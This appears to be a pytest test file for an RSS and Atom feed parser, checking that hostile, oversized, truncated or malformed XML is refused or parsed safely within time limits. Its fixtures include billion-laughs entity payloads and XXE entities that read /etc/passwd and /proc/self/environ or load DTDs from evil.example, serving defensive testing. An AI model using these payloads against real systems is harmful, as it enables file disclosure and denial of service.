"""XML that harms, lies or ends too early (BI-044 to BI-065)."""

import pytest

from conflict.codebook import FetchOutcome
from tests.feeds.parse.conftest import Reader, item, rss, spent

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ja">{0}<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">{0}'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><rss><channel><title>&c;</title></channel></rss>'
)
HOSTILE_DTD = {
    "BI-046 one line": LAUGHS.format(""),
    "BI-047 several lines": LAUGHS.format("\n"),
    "BI-047 utf-16": LAUGHS.format("\n").encode("utf-16"),
    "BI-050 file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
    "BI-050 environment": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///proc/self/environ">]><rss><channel>&x;</channel></rss>',
    "BI-051 external": '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd"><rss><channel><title>x</title></channel></rss>',
    "BI-051 parameter": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><rss><channel/></rss>',
}


@pytest.mark.parametrize("document", HOSTILE_DTD.values(), ids=HOSTILE_DTD.keys())
def test_definitions_are_refused_within_a_second(read: Reader, document: str | bytes) -> None:
    read(rss(item()))  # the child is warm
    before = spent()
    parsed = read(document)
    assert parsed.outcome is FetchOutcome.DTD_REFUSED
    assert parsed.articles == ()
    assert spent() - before < 1.0


def test_the_harmless_doctype_of_old_rss_is_accepted(read: Reader) -> None:
    """BI-052."""
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
    )
    assert len(read(f'<?xml version="1.0"?>{doctype}' + rss(item(), head="")).articles) == 1


@pytest.mark.parametrize(
    "document",
    [
        "<rss><channel>" + "<div>" * 100_000 + "</div>" * 100_000 + "</channel></rss>",
        "<rss " + " ".join(f'a{n}="1"' for n in range(50_000)) + "><channel/></rss>",
    ],
    ids=["BI-053 depth", "BI-055 attributes"],
)
def test_monstrous_shapes_are_refused_within_a_second(read: Reader, document: str) -> None:
    before = spent()
    assert read(document).outcome is FetchOutcome.PARSE_FAILED
    assert spent() - before < 1.5


def test_one_monstrous_item_is_cut_and_its_neighbours_are_whole(read: Reader) -> None:
    """BI-058."""
    parsed = read(rss(*(item(n) for n in range(30)), item(99, description="palabra " * 1_200_000)))
    assert len(parsed.articles) == 31
    assert [a.truncated for a in parsed.articles if a.truncated] == [parsed.articles[-1].truncated]
    assert all(a.summary.startswith("Resumen") for a in parsed.articles[:30])


@pytest.mark.parametrize("author", ["a" * 200_000, "a@" + "a." * 20_000], ids=["BI-059 run", "BI-059 address"])
def test_a_monstrous_author_costs_no_neighbour(read: Reader, author: str) -> None:
    before = spent()
    parsed = read(rss(item(1), item(2, author=author), item(3)))
    assert len(parsed.articles) == 3
    assert spent() - before < 10


@pytest.mark.parametrize(
    "flood",
    ["&lt;!--" * 100_000, '&lt;a href="' * 60_000, "&amp; " * 200_000, "&lt;![" * 100_000],
    ids=["comments", "links", "ampersands", "sections"],
)
def test_floods_of_markup_inside_a_text_end_in_time(read: Reader, flood: str) -> None:
    """BI-061."""
    before = spent()
    parsed = read(rss(item(1), item(2, description=flood), item(3)))
    assert {"Nota número 1", "Nota número 3"} <= {a.title for a in parsed.articles} or parsed.outcome in (
        FetchOutcome.PARSE_TIME,
        FetchOutcome.PARSE_FAILED,
    )
    assert spent() - before < 12


@pytest.mark.parametrize("share", [0.15, 0.4, 0.62, 0.83, 0.97, 0.999])
def test_a_document_cut_at_any_byte_keeps_its_whole_items(read: Reader, share: float) -> None:
    """BI-062."""
    whole = rss(*(item(n) for n in range(20))).encode()
    cut = whole[: int(len(whole) * share)]
    parsed = read(cut)
    assert parsed.outcome is FetchOutcome.DEGRADED
    assert len(parsed.articles) == cut.count(b"</item>")
    assert all(a.summary.startswith("Resumen") for a in parsed.articles)


@pytest.mark.parametrize(
    "document",
    [
        "\n  basura " + rss(item(1), item(2), head=""),
        "\ufeff\ufeff" + rss(item(1), item(2)),
        rss(item(1), item(2)) + "<rss><channel></channel></rss>",
        rss("<media:thumbnail url='x'/>" + item(1, **{"media:credit": "foto"}), item(2)),
    ],
    ids=["BI-063 junk", "BI-063 two BOMs", "BI-063 two roots", "BI-064 undeclared prefix"],
)
def test_untidy_documents_keep_their_entries(read: Reader, document: str) -> None:
    assert len(read(document).articles) == 2


ATOM_ENTRY = "<entry><title>Uno</title><id>tag:1</id><updated>2026-11-20T10:00:00Z</updated></entry>"
OTHER_FORMATS = {
    "Atom 1.0": f'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>{ATOM_ENTRY}</feed>',
    "Atom 0.3": '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><title>Uno</title><id>1</id></entry></feed>',
    "RDF": (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        "<item rdf:about='https://x.example/1'><title>Uno</title><link>https://x.example/1</link></item></rdf:RDF>"
    ),
    "sitemap": (
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        'xmlns:n="http://www.google.com/schemas/sitemap-news/0.9"><url><loc>https://x.example/1</loc><n:news>'
        "<n:publication_date>2026-11-20</n:publication_date><n:title>Uno</n:title></n:news></url></urlset>"
    ),
}


@pytest.mark.parametrize("document", OTHER_FORMATS.values(), ids=OTHER_FORMATS.keys())
def test_every_format_says_the_same(read: Reader, document: str) -> None:
    """BI-065."""
    parsed = read(document)
    assert [a.title for a in parsed.articles] == ["Uno"]


@pytest.mark.parametrize(
    ("document", "outcome"),
    [
        ("", FetchOutcome.EMPTY),
        ("  \n ", FetchOutcome.EMPTY),
        ("<rss/>", FetchOutcome.EMPTY),
        ("<!doctype html><html><body>Ingrese</body></html>", FetchOutcome.NOT_A_FEED),
        ('{"items": []}', FetchOutcome.NOT_A_FEED),
        (b"\x89PNG\r\n\x1a\n" + bytes(200), FetchOutcome.NOT_A_FEED),
        (bytes(500), FetchOutcome.EMPTY),
    ],
)
def test_what_is_no_feed_is_called_so(read: Reader, document: str | bytes, outcome: FetchOutcome) -> None:
    assert read(document).outcome is outcome


def test_addresses_inside_a_feed_are_kept_and_never_opened(read: Reader) -> None:
    """BI-044: the child has no way to open a socket; a feed full of them is parsed all the same."""
    media = '<enclosure url="http://127.0.0.1:9/x.mp3" length="1" type="audio/mpeg"/><image><url>http://127.0.0.1:9/</url></image>'
    assert len(read(rss(media + item())).articles) == 1
